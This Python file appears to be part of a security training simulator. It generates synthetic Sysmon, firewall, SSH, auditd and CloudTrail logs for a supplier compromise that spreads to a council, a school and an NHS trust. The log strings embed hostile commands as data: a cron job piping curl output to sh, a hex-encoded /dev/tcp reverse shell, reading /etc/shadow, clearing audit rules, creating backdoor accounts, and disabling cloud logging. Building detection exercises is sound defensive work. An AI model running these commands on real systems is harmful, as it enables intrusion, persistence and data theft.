"""A supplier is taken over: its remote-control tool and one address reach three tenants."""

from collections.abc import Mapping
from typing import Any

from deploy.demo import lines
from deploy.demo.attacks.script import Script
from deploy.demo.city import CLOUD_ACCOUNT, COUNCIL, EXPLORER, SCHOOL, TRUST, Organisation
from deploy.demo.office import digest

BEGINS = -27_000.0
ADDRESS = "203.0.113.66"
RELAY = "assist-riverside.trycloudflare.com"
TOOL = "C:\\Users\\{account}\\Downloads\\remote-assist.exe"
TOOL_HASHES = digest("remote-assist.exe")
EPR = TRUST.host("epr01")
GUESSED = ("root", "admin", "oracle", "postgres", "backup", "imaging", "svc-imaging")
CLI = "aws-cli/2.15.0 Python/3.11.6 Linux/6.5"


def supplier() -> Script:
    """First footholds at the council and the school, then the trust's records, then the cloud."""
    script = Script(BEGINS)
    _foothold(script, COUNCIL, "h.whitlock")
    script.wait(240)
    _foothold(script, SCHOOL, "c.doyle")
    script.wait(300)
    _guess_password(script)
    script.wait(90)
    _own_linux_host(script)
    script.wait(420)
    _misuse_cloud_key(script)
    return script


def _foothold(script: Script, organisation: Organisation, person: str) -> None:
    desk = organisation.desk(person)
    tool = TOOL.format(account=desk.account)
    run_key = "HKU\\S-1-5-21-1004\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Assist"
    script.log(
        organisation.tenant, "windows",
        lines.process(
            desk.host, desk.user, tool, "remote-assist.exe /unattended", EXPLORER,
            Product="ScreenConnect", Company="ScreenConnect Software", Hashes=TOOL_HASHES,
        ),
        lines.windows(
            lines.SYSMON, 22, desk.host, User=desk.user, Image=tool,
            QueryName=RELAY, QueryStatus="0", QueryResults=f"::ffff:{ADDRESS};",
        ),
        lines.windows(
            lines.SYSMON, 3, desk.host, User=desk.user, Image=tool, Protocol="tcp",
            Initiated="true", SourceIp=desk.address, SourcePort="50412",
            DestinationIp=ADDRESS, DestinationHostname=RELAY, DestinationPort="443",
        ),
        lines.windows(
            lines.SYSMON, 13, desk.host, User=desk.user, Image=tool, EventType="SetValue",
            TargetObject=run_key, Details=tool,
        ),
    )  # fmt: skip
    script.log(
        organisation.tenant, "firewall",
        lines.firewall(
            organisation.host("fw01"), "allow", src_ip=desk.address, src_port=50412,
            dst_ip=ADDRESS, dst_port=443, protocol="TCP",
            sent_bytes=1_204_118, recv_bytes=88_410, rule="out-web",
        ),
    )  # fmt: skip


def _guess_password(script: Script) -> None:
    for number in range(35):
        name = GUESSED[number % len(GUESSED)]
        whom = name if name in ("root", "svc-imaging") else f"invalid user {name}"
        failed = f"Failed password for {whom} from {ADDRESS} port {40_100 + number} ssh2"
        script.log("nhstrust", "linux", lines.syslog(EPR, "sshd", failed, pid=4100 + number))
        script.wait(1.5)
    opened = f"Accepted password for svc-imaging from {ADDRESS} port 40180 ssh2"
    script.log("nhstrust", "linux", lines.syslog(EPR, "sshd", opened, pid=4180))


def _own_linux_host(script: Script) -> None:
    shell = "svc-imaging : TTY=pts/3 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash"
    new_user = (
        "new user: name=support2, UID=1009, GID=1009, home=/home/support2,"
        " shell=/bin/bash, from=/dev/pts/3"
    )
    script.log("nhstrust", "linux", lines.syslog(EPR, "sudo", shell, priority=85, pid=4200))
    script.log("nhstrust", "auditd", lines.executed(EPR, 90_001, "cat", "/etc/shadow"))
    script.wait(40)
    script.log(
        "nhstrust", "linux",
        lines.syslog(EPR, "useradd", new_user, pid=4210),
        lines.syslog(EPR, "usermod", "add 'support2' to group 'sudo'", pid=4211),
    )  # fmt: skip
    script.log(
        "nhstrust", "auditd",
        _created(90_002, "/home/support2/.ssh/authorized_keys"),
        _created(90_003, "/etc/cron.d/sysupdate"),
    )  # fmt: skip
    script.wait(60)
    job = f"(root) CMD (curl -s http://{RELAY}/u | sh)"
    script.log("nhstrust", "linux", lines.syslog(EPR, "CRON", job, priority=78, pid=4302))
    connects_back = f"bash -c bash -i >& /dev/tcp/{ADDRESS}/4444 0>&1".encode().hex().upper()
    script.log(
        "nhstrust", "auditd",
        lines.audit(EPR, "PROCTITLE", 90_004, f"proctitle={connects_back}"),
        lines.executed(EPR, 90_005, "auditctl", "-D"),
    )  # fmt: skip


def _created(serial: int, name: str) -> str:
    body = f'item=1 name="{name}" inode=262173 mode=0100600 ouid=0 ogid=0 nametype=CREATE'
    return lines.audit(EPR, "PATH", serial, body)


def _misuse_cloud_key(script: Script) -> None:
    new_user = {"userName": "svc-archive"}
    administrator = new_user | {"policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}
    shared = {"snapshotId": "snap-0c1d", "attributeType": "CREATE_VOLUME_PERMISSION"}
    calls: tuple[tuple[str, str, Mapping[str, Any]], ...] = (
        ("sts", "GetCallerIdentity", {}),
        ("iam", "ListUsers", {}),
        ("iam", "CreateUser", new_user),
        ("iam", "CreateAccessKey", new_user),
        ("iam", "AttachUserPolicy", administrator),
        ("guardduty", "DeleteDetector", {"detectorId": "12ab"}),
        ("cloudtrail", "StopLogging", {"name": "city-trail"}),
        ("ec2", "ModifySnapshotAttribute", shared),
    )
    for service, name, parameters in calls:
        record = lines.cloudtrail(
            service, name, "svc-website", ADDRESS,
            agent=CLI, account=CLOUD_ACCOUNT, requestParameters=parameters,
        )  # fmt: skip
        script.log("council", "aws", record)
        script.wait(25)
